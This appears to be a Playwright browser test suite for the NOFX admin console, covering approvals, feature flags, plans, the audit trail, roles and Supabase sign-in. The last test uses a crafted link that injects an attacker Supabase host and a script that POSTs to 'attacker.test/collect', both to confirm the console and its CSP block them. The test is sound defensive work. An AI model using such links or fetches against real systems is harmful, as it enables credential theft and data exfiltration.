"""The admin console in headless Chromium against the dev server's app on a real
server and the real PostgreSQL: approvals (live, approve, deny), plans (graph,
gates, execute, override), feature flags, the audit trail, and what each role sees."""

from __future__ import annotations

import json
import re

import psycopg
import pytest
from playwright.sync_api import Page, expect

from tests.browser.console import paused_plan, screenshot, sign_in
from tests.browser.queue_fixtures import open_card
from tests.browser.realtime_server import FakeRealtime
from tests.support.backlog import seed_backlog
from tests.support.llm_server import Reply

pytestmark = pytest.mark.browser


def test_an_approver_approves_a_pending_step_and_sees_the_plan_resume(
    page: Page, console_url: str, client, tokens, conn
) -> None:
    sign_in(page, console_url, tokens["approver"])
    expect(page.locator("#who-role")).to_have_text("approver")
    expect(page.locator("#approval-summary")).to_contain_text("pending")

    # planned and paused after the page loaded: the queue follows /api/events without a reload
    plan_id, pending = paused_plan(client, tokens, conn, "brw1")
    card = page.locator(f"#approval-{pending['id']}")
    # the event feed shows an event once no older transaction in the cluster is still open (see
    # lib/trail/events.py): beside the other worker's 1,500-item plans, that can take seconds
    expect(card).to_be_visible(timeout=20_000)
    expect(card.locator("h2")).to_contain_text("brw1-G")
    expect(card).to_contain_text("gate.brw1")
    open_card(card)  # a compact row opens to the full card
    expect(card).to_contain_text("target")  # the inputs summary
    expect(page.locator("#approvals-count")).not_to_be_hidden()

    # time left ticks down
    countdown = card.locator(".countdown")
    expect(countdown).to_contain_text("left")
    first = countdown.inner_text()
    expect(countdown).not_to_have_text(first, timeout=3000)

    # the artifact link is the signed URL, and it opens
    link = card.get_by_role("link", name="request.json")
    href = link.get_attribute("href")
    assert href and href.startswith(f"{console_url}/_storage/") and "sig=" in href
    assert page.request.get(href).status == 200
    screenshot(page, "approvals-queue")

    card.get_by_label("Reason").fill("inputs checked")
    card.get_by_role("button", name="Approve").click()
    outcome = card.locator(".outcome")  # the outcome in the card's place, kept until dismissed
    expect(outcome).to_contain_text("You approved brw1-G")
    expect(outcome.locator(".plan-status-after")).to_have_text("completed")
    expect(card.get_by_role("button", name="Approve", exact=True)).to_have_count(0)  # decided: the form is gone

    # the plan resumed: every step ran
    outcome.get_by_role("link").first.click()
    expect(page).to_have_url(re.compile(f"#/plans/{plan_id}$"))
    expect(page.locator("#plan-status")).to_have_text("completed")
    for key in ("A", "G", "Z"):
        expect(page.locator(f".step[data-item-key='brw1-{key}'] .step-head .badge").first).to_have_text("succeeded")
    # the decision is recorded as made through the API, the console's label beside it as a claim
    history = client.get(f"/api/approvals/{pending['id']}", token=tokens["viewer"]).json()["history"]
    assert history[-1]["event"] == "approve" and history[-1]["source"] == "api"
    assert history[-1]["client_claim"] == "console"  # what the console says it is: a claim, kept apart
    assert history[-1]["reason"] == "inputs checked"


def test_a_denial_without_a_reason_is_refused_and_with_one_it_is_denied(
    page: Page, console_url: str, client, tokens, conn
) -> None:
    plan_id, pending = paused_plan(client, tokens, conn, "brw2")
    sign_in(page, console_url, tokens["approver"])
    card = page.locator(f"#approval-{pending['id']}")
    open_card(card)
    reason = card.get_by_label("Reason")

    card.get_by_role("button", name="Deny").click()
    refusal = card.locator(".decision-result [role=alert]")
    expect(refusal).to_contain_text("The denial was refused")
    expect(refusal).to_contain_text("a denial needs a reason")  # the API's 422 detail
    expect(refusal.locator(".problem-errors")).to_contain_text("the reason")  # errors[].loc, in words
    expect(reason).to_have_attribute("aria-invalid", "true")
    expect(reason).to_be_focused()
    still = client.get(f"/api/approvals/{pending['id']}", token=tokens["viewer"]).json()
    assert still["status"] == "pending"
    screenshot(page, "approvals-denial-refused")

    # keyboard only: type the reason, tab to Deny, press Enter
    page.keyboard.type("not during the freeze")
    page.keyboard.press("Tab")
    expect(card.get_by_role("button", name="Approve")).to_be_focused()
    page.keyboard.press("Tab")
    expect(card.get_by_role("button", name="Deny")).to_be_focused()
    page.keyboard.press("Enter")
    outcome = card.locator(".outcome")
    expect(outcome).to_contain_text("You denied brw2-G: not during the freeze")
    expect(outcome.locator(".plan-status-after")).to_have_text("blocked")
    plan = client.get(f"/api/plans/{plan_id}", token=tokens["viewer"]).json()["plan"]
    assert plan["status"] == "blocked" and "not during the freeze" in plan["status_reason"]


def test_an_admin_switches_the_planner_off_and_the_plan_button_reports_it(
    page: Page, console_url: str, client, tokens, conn
) -> None:
    seed_backlog(conn, "brw3", {"A": [], "B": ["A"], "C": ["A"], "D": ["B", "C"]})
    sign_in(page, console_url, tokens["admin"], "#/flags")
    me = page.locator("#who-name").inner_text()
    switch = page.get_by_role("switch", name="FEATURE_AUTO_PLANNER")
    expect(switch).to_have_attribute("aria-checked", "true")
    try:
        # a kill switch is never one click: the switch asks to confirm, and why
        switch.click()
        confirm = page.get_by_role("form", name="Confirm switching FEATURE_AUTO_PLANNER off")
        expect(confirm).to_contain_text("Planning stops")
        reason = confirm.get_by_label("Reason (required)")
        expect(reason).to_be_focused()
        confirm.get_by_role("button", name="Switch off").click()
        expect(confirm.locator("[role=alert]")).to_contain_text("Say why")
        expect(switch).to_have_attribute("aria-checked", "true")  # nothing was sent
        reason.fill("browser test: planner freeze")
        confirm.get_by_role("button", name="Switch off").click()
        expect(switch).to_have_attribute("aria-checked", "false")
        expect(page.locator("#flag-result")).to_contain_text("FEATURE_AUTO_PLANNER is now off")
        flag_row = page.locator("[data-flag-key=FEATURE_AUTO_PLANNER]")
        expect(flag_row.locator(".flag-changed")).to_contain_text(me)
        expect(flag_row.locator(".flag-changed")).to_contain_text("browser test: planner freeze")
        flag_row.get_by_text(re.compile(r"^History")).click()
        expect(flag_row.locator(".flag-history li").first).to_contain_text("Off by")
        expect(flag_row.locator(".flag-history li").first).to_contain_text("browser test: planner freeze")
        flags = client.get("/api/config/flags", token=tokens["viewer"]).json()["flags"]
        assert {f["key"]: f["enabled"] for f in flags}["FEATURE_AUTO_PLANNER"] is False
        screenshot(page, "flags")

        page.get_by_role("link", name="Plans").click()
        page.locator("#new-plan summary").click()
        expect(page.locator("#planner-flag-note")).to_contain_text("switched off")
        page.get_by_label(re.compile(r"^brw3")).check()
        page.get_by_role("button", name="Plan", exact=True).click()
        refusal = page.locator("#plan-result [role=alert]")
        expect(refusal).to_contain_text("the auto planner feature is switched off")
        expect(refusal).to_contain_text("FEATURE_AUTO_PLANNER is switched off")  # the API's detail
        screenshot(page, "plans-feature-disabled")
    finally:
        page.goto(f"{console_url}/#/flags")
        switch = page.get_by_role("switch", name="FEATURE_AUTO_PLANNER")
        if switch.get_attribute("aria-checked") == "false":
            switch.click()
            page.get_by_label("Reason (required)").fill("freeze over")
            page.get_by_role("button", name="Switch on").click()
        expect(switch).to_have_attribute("aria-checked", "true")
    flags = client.get("/api/config/flags", token=tokens["viewer"]).json()["flags"]
    assert all(f["enabled"] for f in flags)

    # switched back on, the same button plans, and the page shows the plan
    page.get_by_role("link", name="Plans").click()
    page.locator("#new-plan summary").click()
    page.get_by_label(re.compile(r"^brw3")).check()
    page.get_by_label("Max parallel steps per stage").fill("1")
    page.get_by_role("button", name="Plan", exact=True).click()
    expect(page).to_have_url(re.compile(r"#/plans/[0-9a-f-]{36}$"))
    expect(page.locator(".stage")).to_have_count(4)  # max_parallel 1: B and C in stages of their own


def test_a_plan_page_shows_the_graph_and_gates_and_runs_execute_and_override(
    page: Page, console_url: str, client, tokens, conn, features
) -> None:
    from tests.support.plans import builtin_tool

    builtin_tool(conn, "gate.brw5", "echo", approval={"required_approvals": 1, "timeout_seconds": 600})
    seed_backlog(conn, "brw5", {"A": [], "B": ["A"], "C": ["A"], "G": ["B", "C"]}, tools={"G": "gate.brw5"})
    sign_in(page, console_url, tokens["admin"], "#/plans")
    page.locator("#new-plan summary").click()
    page.get_by_label(re.compile(r"^brw5")).check()
    page.get_by_role("button", name="Plan", exact=True).click()
    expect(page).to_have_url(re.compile(r"#/plans/[0-9a-f-]{36}$"))
    plan_id = page.url.rsplit("/", 1)[1]

    # the graph by stage, each step with its status, verdict and dependencies
    stages = page.locator(".stage")
    expect(stages).to_have_count(3)
    expect(stages.nth(0)).to_contain_text("brw5-A")
    expect(stages.nth(1)).to_contain_text("brw5-B")
    expect(stages.nth(1)).to_contain_text("brw5-C")
    gate_step = page.locator(".step[data-item-key='brw5-G']")
    expect(gate_step).to_contain_text("after brw5-B, brw5-C")
    expect(gate_step).to_contain_text("needs approval")
    expect(gate_step.locator(".badge").first).to_have_text("pending")
    expect(page.locator("svg.edges path.edge")).to_have_count(4)
    # the four gates with scores and remediation tips
    for gate in ("structural", "risk", "compliance", "resource"):
        expect(page.locator(f"#gate-{gate} .score-value")).to_have_text(re.compile(r"^\d+/100$"))
    expect(page.locator("#gate-risk .remediation").first).to_contain_text("Tip:")
    screenshot(page, "plan-detail")

    features("FEATURE_PLANNER_EXECUTE", False)
    execute = page.get_by_role("button", name="Execute")
    execute.focus()  # by keyboard: a button the page has just marked disabled still answers, with the reason
    page.keyboard.press("Enter")  # the API refuses (or the page, if it read the flag again meanwhile): once, in words
    refusal = page.locator("#execute-result [role=alert]")
    expect(refusal).to_contain_text("Execution is switched off (FEATURE_PLANNER_EXECUTE")
    expect(refusal).to_contain_text("steps wait until an admin switches it on")
    expect(refusal).not_to_contain_text("PUT /api/config/flags")  # not the API's detail as well
    expect(execute).to_be_disabled()  # the page read the flag again: Execute is disabled and says why
    expect(page.locator("#execute-why")).to_contain_text("Execution is switched off")
    features("FEATURE_PLANNER_EXECUTE", True)
    page.reload()  # switched in SQL, no flag.changed event: read the page again
    page.get_by_role("button", name="Execute").click()
    expect(page.locator("#execute-result")).to_contain_text("Execution started")  # the answer comes first
    expect(page.locator("#plan-status")).to_have_text("paused")  # then the worker's progress, followed live
    expect(gate_step.locator(".badge").first).to_have_text("awaiting approval")

    # an override needs a reason: refused in the page, then recorded
    page.locator("#override summary").click()
    page.get_by_label("Action", exact=True).select_option("cancel")
    page.get_by_role("button", name="Apply override").click()
    expect(page.locator("#override-result [role=alert]")).to_contain_text("needs a reason")
    expect(page.get_by_label("Reason (required)")).to_be_focused()
    page.get_by_label("Reason (required)").fill("superseded by a new release")
    page.get_by_role("button", name="Apply override").click()
    expect(page.locator("#override-result")).to_contain_text("Override cancel (plan) recorded")
    expect(page.locator("#plan-status")).to_have_text("cancelled")
    screenshot(page, "plan-after-override")

    # the audit trail: the chain check and the timeline with the override in it
    page.get_by_role("link", name="Audit trail").click()
    expect(page).to_have_url(re.compile(f"#/audit/{plan_id}$"))
    expect(page.locator("#chain-check")).to_contain_text("Chain verified")
    timeline = page.locator("#audit-timeline")
    expect(timeline).to_contain_text("plan.created")
    expect(timeline).to_contain_text("override")
    snapshot = page.locator(".snapshot-link").first
    expect(snapshot).to_be_visible()
    assert page.request.get(snapshot.get_attribute("href") or "").status == 200
    screenshot(page, "audit")


def test_a_viewer_sees_no_approve_button_and_no_other_controls(
    page: Page, console_url: str, client, tokens, conn
) -> None:
    plan_id, pending = paused_plan(client, tokens, conn, "brw4")
    sign_in(page, console_url, tokens["viewer"])
    expect(page.locator("#who-role")).to_have_text("viewer")
    card = page.locator(f"#approval-{pending['id']}")
    expect(card).to_be_visible()
    expect(card).to_contain_text("brw4-G")
    expect(card.get_by_role("button", name="Approve")).to_have_count(0)
    expect(card.get_by_role("button", name="Deny")).to_have_count(0)
    expect(page.get_by_role("button", name="Approve")).to_have_count(0)
    expect(page.locator("#read-only-note")).to_contain_text("needs the approver role")
    expect(page.get_by_role("link", name="Flags")).to_be_hidden()
    screenshot(page, "approvals-viewer")

    page.get_by_role("link", name="Plans").click()
    expect(page.locator("table.plans")).to_contain_text("brw4")
    expect(page.locator("#new-plan")).to_have_count(0)
    page.goto(f"{console_url}/#/plans/{plan_id}")
    expect(page.locator(".step[data-item-key='brw4-G']")).to_be_visible()
    expect(page.get_by_role("button", name="Execute")).to_have_count(0)
    expect(page.locator("#override")).to_have_count(0)
    # someone else approves: the open plan page follows the events and shows the plan finish
    expect(page.locator("#plan-status")).to_have_text("paused")
    r = client.post(f"/api/approvals/{pending['id']}", json={"decision": "approve"}, token=tokens["approver"])
    assert r.status == 200, r.text
    expect(page.locator("#plan-status")).to_have_text("completed")
    expect(page.locator(".step[data-item-key='brw4-Z'] .step-head .badge").first).to_have_text("succeeded")
    page.goto(f"{console_url}/#/flags")
    expect(page.locator("#flags-read-only")).to_be_visible()
    expect(page.locator("[data-flag-key=FEATURE_AUTO_PLANNER]")).to_be_visible()
    expect(page.get_by_role("switch")).to_have_count(0)


def test_sign_in_refuses_what_is_not_a_token_and_sign_out_forgets_it(page: Page, console_url: str, tokens) -> None:
    page.goto(f"{console_url}/")
    expect(page.get_by_role("heading", name="Sign in to the NOFX console")).to_be_visible()
    screenshot(page, "sign-in")
    page.get_by_label("Access token").fill("not-a-token")
    page.get_by_role("button", name="Sign in", exact=True).click()
    expect(page.locator("#signin-error")).to_contain_text("That is not a JWT")
    expect(page.locator("#nav")).to_be_hidden()

    sign_in(page, console_url, tokens["planner"])
    expect(page.locator("#who-role")).to_have_text("planner")
    page.reload()  # the token survives a reload of the tab
    expect(page.locator("#who-role")).to_have_text("planner")
    page.get_by_role("button", name="Sign out").click()
    expect(page.get_by_label("Access token")).to_be_visible()
    assert page.evaluate("() => sessionStorage.length") == 0


def configure_supabase(monkeypatch, url: str) -> None:
    """This deployment's Supabase project, as its environment names it: the
    console learns it from /config.json and its CSP allows that host only."""
    monkeypatch.setenv("SUPABASE_URL", url)
    monkeypatch.setenv("SUPABASE_ANON_KEY", "anon-key")


def test_with_supabase_configured_a_realtime_broadcast_brings_the_update_at_once(
    page: Page, console_url: str, client, tokens, conn, monkeypatch
) -> None:
    with FakeRealtime() as realtime:
        configure_supabase(monkeypatch, f"http://127.0.0.1:{realtime.port}")
        sign_in(page, console_url, tokens["approver"])
        expect(page.locator("#live-status")).to_have_text("Live (Realtime)")
        (join,) = realtime.joins()
        assert join["topic"] == "realtime:nofx:events"
        assert join["payload"]["access_token"] == tokens["approver"]
        assert join["payload"]["config"]["private"] is True
        assert realtime.paths[0].startswith("/realtime/v1/websocket?apikey=anon-key")

        # with Realtime up, polling slows to every 10 s: the broadcast is what brings the card now,
        # even while the event feed holds the new events back behind an older open transaction
        with psycopg.connect(conn.info.dsn) as older:
            older.execute("SELECT pg_current_xact_id()")  # open, with a transaction id, until the end
            _, pending = paused_plan(client, tokens, conn, "brw6")
            realtime.broadcast("nofx:events", "approval.requested", {"type": "approval.requested"})
            expect(page.locator(f"#approval-{pending['id']}")).to_be_visible(timeout=4000)
            older.rollback()


def test_a_plan_with_a_model_comparison_shows_the_models_table(page: Page, console_url: str, tokens, conn, llm) -> None:
    p = "brw7"
    seed_backlog(conn, p, {"A": [], "B": ["A"], "C": ["A"]})
    proposal = json.dumps({"stages": [[f"{p}-A"], [f"{p}-B", f"{p}-C"]], "rationale": "dependencies first"})
    llm.script("openai", Reply(text=proposal, input_tokens=812, output_tokens=64))
    llm.script("anthropic", Reply(text=proposal, input_tokens=900, output_tokens=80))
    sign_in(page, console_url, tokens["planner"], "#/plans")
    page.locator("#new-plan summary").click()
    page.get_by_label(re.compile(r"^brw7")).check()
    page.get_by_label("Compare models (optional)").fill("openai:gpt-4.1-mini, anthropic:claude-sonnet-4-6")
    page.get_by_role("button", name="Plan", exact=True).click()
    # the first comparison in a process imports the openai and anthropic SDKs: seconds on a busy machine
    expect(page).to_have_url(re.compile(r"#/plans/[0-9a-f-]{36}$"), timeout=30_000)

    table = page.locator("#models-table")
    expect(table.locator("tbody tr")).to_have_count(2)
    expect(table.locator("thead")).to_contain_text("Model")
    for header in ("Score", "Latency", "Tokens", "Cost"):
        expect(table.locator("thead")).to_contain_text(header)
    gpt = table.locator("tbody tr", has_text="openai:gpt-4.1-mini")
    expect(gpt).to_contain_text("812 in / 64 out")
    expect(gpt.locator("td").nth(0)).to_have_text(re.compile(r"^\d+$"))  # the proposal's score
    expect(gpt.locator("td").nth(2)).to_have_text(re.compile(r"\d+ ?(ms|s)"))  # latency
    expect(gpt.locator("td").nth(4)).to_contain_text(re.compile(r"\$\d|unknown"))  # cost, or unknown with the reason
    claude = table.locator("tbody tr", has_text="anthropic:claude-sonnet-4-6")
    expect(claude).to_contain_text("900 in / 80 out")
    screenshot(page, "plan-model-comparison")


def test_with_supabase_configured_a_user_signs_in_with_email_and_password(
    page: Page, console_url: str, tokens, monkeypatch
) -> None:
    # Supabase Auth is the one outside service here: its token endpoint is answered in the browser
    asked: list[dict] = []
    answers = [
        (400, {"error": "invalid_grant", "error_description": "Invalid login credentials"}),
        (200, {"access_token": tokens["approver"], "token_type": "bearer", "expires_in": 3600, "refresh_token": "r1"}),
    ]

    def gotrue(route) -> None:
        request = route.request
        asked.append({"url": request.url, "apikey": request.headers.get("apikey"), "body": request.post_data_json})
        status, body = answers[len(asked) - 1]
        route.fulfill(status=status, content_type="application/json", body=json.dumps(body))

    configure_supabase(monkeypatch, "https://project.supabase.test")
    page.route("https://project.supabase.test/auth/v1/token*", gotrue)
    page.goto(f"{console_url}/#/approvals")
    page.get_by_label("Email").fill("approver@example.com")
    page.get_by_label("Password").fill("wrong")
    page.get_by_role("button", name="Sign in with Supabase").click()
    expect(page.locator("#signin-error")).to_contain_text("Invalid login credentials")
    page.get_by_label("Password").fill("right")
    page.get_by_role("button", name="Sign in with Supabase").click()
    expect(page.locator("#who-role")).to_have_text("approver")
    expect(page.locator("#approval-summary")).to_contain_text("pending approvals")
    assert asked[1]["url"].endswith("/auth/v1/token?grant_type=password") and asked[1]["apikey"] == "anon-key"
    assert asked[1]["body"] == {"email": "approver@example.com", "password": "right"}


def test_a_supabase_session_is_renewed_before_it_expires_and_signs_out_when_renewal_fails(
    page: Page, console_url: str, monkeypatch
) -> None:
    from lib.web import auth

    # tokens that live four seconds, so renewal comes due within the test
    first, second = (auth.mint_token("approver", email="renew@example.com", ttl_seconds=4) for _ in range(2))
    answers = {
        "password": (200, {"access_token": first, "refresh_token": "r1", "expires_in": 4}),
        "r1": (200, {"access_token": second, "refresh_token": "r2", "expires_in": 4}),
        "r2": (400, {"error": "invalid_grant", "error_description": "Refresh Token Not Found"}),
    }
    asked: list[str] = []

    def gotrue(route) -> None:
        body = route.request.post_data_json
        asked.append(body.get("refresh_token", "password"))
        status, answer = answers[asked[-1]]
        route.fulfill(status=status, content_type="application/json", body=json.dumps(answer))

    with FakeRealtime() as realtime:
        supabase = f"http://127.0.0.1:{realtime.port}"  # Auth answered in the browser, Realtime by the stand-in
        configure_supabase(monkeypatch, supabase)
        page.route(f"{supabase}/auth/v1/token*", gotrue)
        page.goto(f"{console_url}/#/approvals")
        page.get_by_label("Email").fill("renew@example.com")
        page.get_by_label("Password").fill("right")
        page.get_by_role("button", name="Sign in with Supabase").click()
        expect(page.locator("#who-role")).to_have_text("approver")
        expect(page.locator("#live-status")).to_have_text("Live (Realtime)")

        # a second before the first token expires, its refresh token buys the next one
        page.wait_for_function("() => sessionStorage.getItem('nofx.console.refresh') === 'r2'", timeout=6000)
        assert asked[:2] == ["password", "r1"]
        assert page.evaluate("() => sessionStorage.getItem('nofx.console.token')") == second
        with page.expect_request(lambda r: "/api/plans" in r.url) as plans_request:
            page.get_by_role("link", name="Plans").click()
        assert plans_request.value.headers["authorization"] == f"Bearer {second}"  # the API gets the renewed token
        expect(page.locator("#who-role")).to_have_text("approver")  # still signed in
        # the private channel is told the new token, as Supabase's client does
        for _ in range(40):  # the frame crosses a socket: wait up to 2 s for it
            renewed = [f for f in realtime.frames if f.get("event") == "access_token"]
            if renewed:
                break
            page.wait_for_timeout(50)
        assert [(f["topic"], f["payload"]["access_token"]) for f in renewed] == [("realtime:nofx:events", second)]

        # the next renewal is refused: the console signs out and says why
        expect(page.get_by_label("Access token")).to_be_visible(timeout=6000)
        expect(page.locator(".notice")).to_contain_text("could not be renewed (Refresh Token Not Found)")
        assert asked == ["password", "r1", "r2"]
        assert page.evaluate("() => sessionStorage.length") == 0


def test_a_crafted_link_cannot_point_the_console_at_another_supabase(
    page: Page, console_url: str, tokens, monkeypatch
) -> None:
    # the link names another project; the deployment's own is the one used for the password
    configure_supabase(monkeypatch, "https://project.supabase.test")
    asked: list[str] = []

    def gotrue(route) -> None:
        asked.append(route.request.url)
        body = {"access_token": tokens["approver"], "token_type": "bearer", "expires_in": 3600, "refresh_token": "r"}
        route.fulfill(status=200, content_type="application/json", body=json.dumps(body))

    page.route("https://project.supabase.test/auth/v1/token*", gotrue)
    page.route("https://attacker.test/**", lambda route: (asked.append(route.request.url), route.abort()))
    page.goto(f"{console_url}/?supabase_url=https://attacker.test&supabase_anon_key=stolen#/approvals")
    page.get_by_label("Email").fill("approver@example.com")
    page.get_by_label("Password").fill("secret")
    page.get_by_role("button", name="Sign in with Supabase").click()
    expect(page.locator("#who-role")).to_have_text("approver")
    assert asked == ["https://project.supabase.test/auth/v1/token?grant_type=password"]

    # and the page's policy refuses any other host, whatever a script tries
    refused = page.evaluate(
        """async () => {
            const seen = new Promise(resolve =>
              document.addEventListener('securitypolicyviolation', e => resolve(e.effectiveDirective), { once: true }));
            await fetch('https://attacker.test/collect', { method: 'POST', body: 'x' }).catch(() => null);
            return await seen;
        }"""
    )
    assert refused == "connect-src" and len(asked) == 1
